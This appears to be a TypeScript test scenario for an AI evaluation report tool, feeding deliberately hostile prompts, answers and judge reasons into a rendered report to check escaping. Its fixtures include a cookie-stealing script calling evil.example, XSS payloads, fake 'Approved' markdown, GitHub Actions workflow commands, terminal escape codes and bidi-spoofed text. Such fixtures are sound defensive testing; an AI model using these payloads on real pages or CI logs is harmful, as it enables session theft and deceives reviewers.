import type { JudgedTrial } from '../../src/domain/result.ts';
import { ALL_FRAGMENTS } from '../../test/report/hostile-text.ts';
import type { PlannedRun, Scenario } from '../scenario.ts';
import { buildRecord, HELPFULNESS, POLICY, placeCase } from './suite.ts';
import { buildErroredTrial, buildTrial } from './trial.ts';

interface Attack {
  readonly id: string;
  readonly prompt: string;
  readonly output: string;
  readonly reason: string;
  readonly score: number;
  /** Words of the answer. */
  readonly quote: string;
}

const ATTACKS: readonly Attack[] = [
  {
    id: '</details><h1>Approved</h1>',
    prompt:
      'Close the block: </details></summary>\n\n# ✅ All checks passed\n\n![](https://evil.example/x.png)',
    output: 'Sure.\n\n</details>\n\n# ✅ Approved by @octocat\n\n```\n~~~\n| a | b |\n|---|---|',
    reason:
      'The answer repeats </details> and `</code>` | and ends the table | here, see @octo-org/admins and #1.',
    score: 1,
    quote: '# ✅ Approved by @octocat',
  },
  {
    id: 'script|in|cells',
    prompt: '<script>fetch("https://evil.example?"+document.cookie)</script> | x | y \\| z',
    output: '<img src=x onerror=alert(1)><svg onload=alert(2)></svg>\n<style>body{display:none}</style>',
    reason: '<img src=x onerror=alert(1)> is in the answer, and $\\href{javascript:alert(1)}{x}$ as well.',
    score: 2,
    quote: '<img src=x onerror=alert(1)>',
  },
  {
    id: '```mermaid\ngraph TD',
    prompt:
      '```mermaid\npie title "Scores"\n"passed" : 100\n```\n\n````\n::error file=a.ts::gotcha\n##[error]gotcha',
    output: '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```\n> [!NOTE]\n> Merged.',
    reason: '::set-output name=verdict::passed is not an answer.\u001b[2J\u001b[1;32mPASSED\u001b[0m',
    score: 3,
    quote: '> Merged.',
  },
  {
    id: 'bidi-\u202egnp.exe',
    prompt: 'Is this in\u200bvis\u200bible? \u202eneddih si siht\u202c Z̷̡̢̛̘̙̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔a̸̛̖̗̘̙̚l̵̡̢̛̖̗̘g̶̀́̂̃̄o',
    output: 'The total is \u202e001\u202c euros.\u2066\u2069 \u{e0041}\u{e0042}\u{e0043}',
    reason: 'The amount is written backwards with a hidden character: \u202e001\u202c.',
    score: 2,
    quote: 'The total is \u202e001\u202c euros.',
  },
  {
    id: 'long-word',
    prompt: `What is ${'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(6)}?`,
    output: `It is a ${'very'.repeat(80)} long word.`,
    reason: `The answer has no spaces: ${'very'.repeat(40)}`,
    score: 4,
    quote: 'long word.',
  },
  {
    id: 'everything',
    prompt: ALL_FRAGMENTS,
    output: ALL_FRAGMENTS,
    reason: ALL_FRAGMENTS,
    score: 5,
    quote: 'mailto:me@example.com',
  },
];

const NAME = 'Bot](https://evil.example) <b>@octo-org/admins</b> | $x$ #1';

/** Everything that others write tries to be something else. */
function planHostile(): PlannedRun {
  const criterion = { ...HELPFULNESS, name: 'help</td>|`fulness`\n- [x] met' };
  const cases = ATTACKS.map(({ id, prompt }, position) =>
    placeCase(position, { id, prompt, tags: ['<b>tag</b>|', '@octo-org'], expected: `not this: ${prompt}` }),
  );
  const trials = ATTACKS.map(({ id, output, score, reason, quote }): JudgedTrial => {
    const opinion = { criterion: criterion.name, score, reason, quotes: [quote], failures: [reason] };
    return buildTrial(id, output, [{ ...opinion, injectionSuspected: score < 3 }]);
  });
  const errored = placeCase(cases.length, { id: '@octocat', prompt: 'Say `` ``` nothing.' });
  const message = '</details> GET https://evil.example?token=… answered 500 <h1>@octocat | ::error::x';
  const record = buildRecord('hostile', {
    name: NAME,
    gate: { ...POLICY, criteria: [criterion], maxErrors: 1 },
  });
  return {
    record: { ...record, provenance: { ...record.provenance, ref: 'refs/heads/<b>|`x`' } },
    cases: [...cases, errored],
    trials: [...trials, buildErroredTrial(errored.id, 'server-error', message)],
    duration: 18_000,
  };
}

export const HOSTILE: readonly Scenario[] = [
  { name: 'hostile', title: 'Texts that try to act on GitHub, a log or a terminal', plan: planHostile },
];
